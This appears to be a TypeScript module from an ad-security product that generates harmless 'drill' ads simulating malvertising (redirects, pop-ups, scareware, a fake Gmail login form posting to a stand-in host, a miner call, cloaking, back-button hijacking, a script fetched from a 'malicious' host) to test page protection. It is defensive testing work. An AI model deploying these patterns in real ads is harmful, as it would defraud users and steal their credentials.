import { type DrillCaseName, drillCreativeId, drillKitNames } from '@vigil/contract'

/** Names that nobody can own: what leads there leads nowhere. */
const stranger = (name: string) => `https://${name}.vigil-drill.example/`

/** How the ad reaches the page around it: in its own window on the drill's pages, from a frame on others'. */
type PageName = 'window' | 'top'

/** What the heavy ad loads. */
export const heavyPath = '/drill/heavy.bin'

const script = (code: string) => `<script>${code}</script>`
// Whether it is still there afterwards tells whether the ad was let through.
const marked = (markup: string) => `<div data-drill-mark>${markup}</div>`

const ads: Record<DrillCaseName, (page: PageName) => string> = {
  // A document with an origin of its own has no events of navigation: there the drill redirects by markup, and in ten minutes.
  redirect: (page) =>
    page === 'top'
      ? script(`top.location.href = '${stranger('prize')}'`)
      : `<meta data-drill-mark http-equiv="refresh" content="600;url=${stranger('prize')}">`,
  'pop-up': () => script(`window.open('${stranger('pop')}')`),
  scareware: () => marked('<b>WARNING!</b> Your phone has been infected with (13) viruses. Clean it now.'),
  'alert-loop': () => script(`for (let at = 0; at < 3; at++) alert('Your prize is waiting')`),
  download: () =>
    `<a id="drill-file" download="drill.exe" href="data:application/octet-stream;base64,RHJpbGw=">File</a>${script("document.getElementById('drill-file').click()")}`,
  'made-click': () =>
    `<a id="drill-link" href="${stranger('shop')}">Shop</a>${script("document.getElementById('drill-link').click()")}`,
  'hidden-frame': () =>
    `<iframe data-drill-frame src="${stranger('ads')}serve?slot=1" width="1" height="1" style="border:0"></iframe>`,
  miner: () => script("new CoinHive.Anonymous('drill').start()"),
  cloak: () =>
    marked(
      script(
        `if (navigator.webdriver === 'nobody') { document.body.dataset.to = 1; location.href = '${stranger('x')}' }`,
      ),
    ),
  phishing: () =>
    marked(
      `<form action="${stranger('login')}"><p>Your Gmail mailbox is full. Sign in to keep it.</p><input type="password" name="password"></form>`,
    ),
  'push-prompt': () => script('Notification.requestPermission()'),
  'back-button': (page) => script(`for (let at = 0; at < 10; at++) ${page}.history.pushState({}, '', '#drill-' + at)`),
  typing: (page) => script(`${page}.document.addEventListener('keydown', function () {})`),
  'bad-host': () => `<script data-drill-script src="${stranger('malicious')}drill.js"></script>`,
  'heavy-ad': () =>
    `<p>A film</p>${script(`fetch('${heavyPath}').then((film) => film.arrayBuffer()).then((film) => { if (film.byteLength > 4e6) frameElement.dataset.drillMark = '' })`)}`,
}

/** The ad's markup as an exchange would deliver it: with the comment by which Prebid names the creative. */
export function drillAd(name: DrillCaseName, run: string, page: PageName) {
  const ids = new URLSearchParams({ creativeId: drillCreativeId(name, run), bidderCode: 'vigil-drill' })
  return `<!-- pbad://${ids} -->${ads[name](page)}`
}

/** A text inside a script of a page: it must not close the script's element. */
export const inScript = (value: unknown) => JSON.stringify(value).replaceAll('<', '\\u003c')

/** The kit that runs them on a page of somebody's own, each in a frame in a place for ads. */
export function drillKit(run: string) {
  // What leaves the page comes last.
  const names = [...drillKitNames].sort((a, b) => Number(a === 'redirect') - Number(b === 'redirect'))
  const list = names.map((name) => ({ name, markup: drillAd(name, run, 'top') }))
  return `(() => {
  if (!window[Symbol.for('vigil.ad')]) return console.warn('Vigil drill: no tag protects this page. Nothing was run.')
  const ads = ${inScript(list)}
  let slot
  const next = () => {
    slot?.remove()
    const ad = ads.shift()
    if (!ad) return console.info('Vigil drill: done. The results are in the dashboard.')
    console.info('Vigil drill: ' + ad.name)
    // A place of its own for each, as two ads of a page have.
    slot = Object.assign(document.createElement('div'), { id: 'ad-slot-drill-' + ad.name })
    const frame = Object.assign(document.createElement('iframe'), { width: 300, height: 250 })
    document.body.append(slot)
    slot.append(frame)
    frame.contentDocument.write(ad.markup)
    frame.contentDocument.close()
    setTimeout(next, 900)
  }
  // For some seconds a line in the console counts as a click, and what follows a click is let pass.
  setTimeout(next, navigator.userActivation?.isActive ? 6000 : 0)
})()
`
}
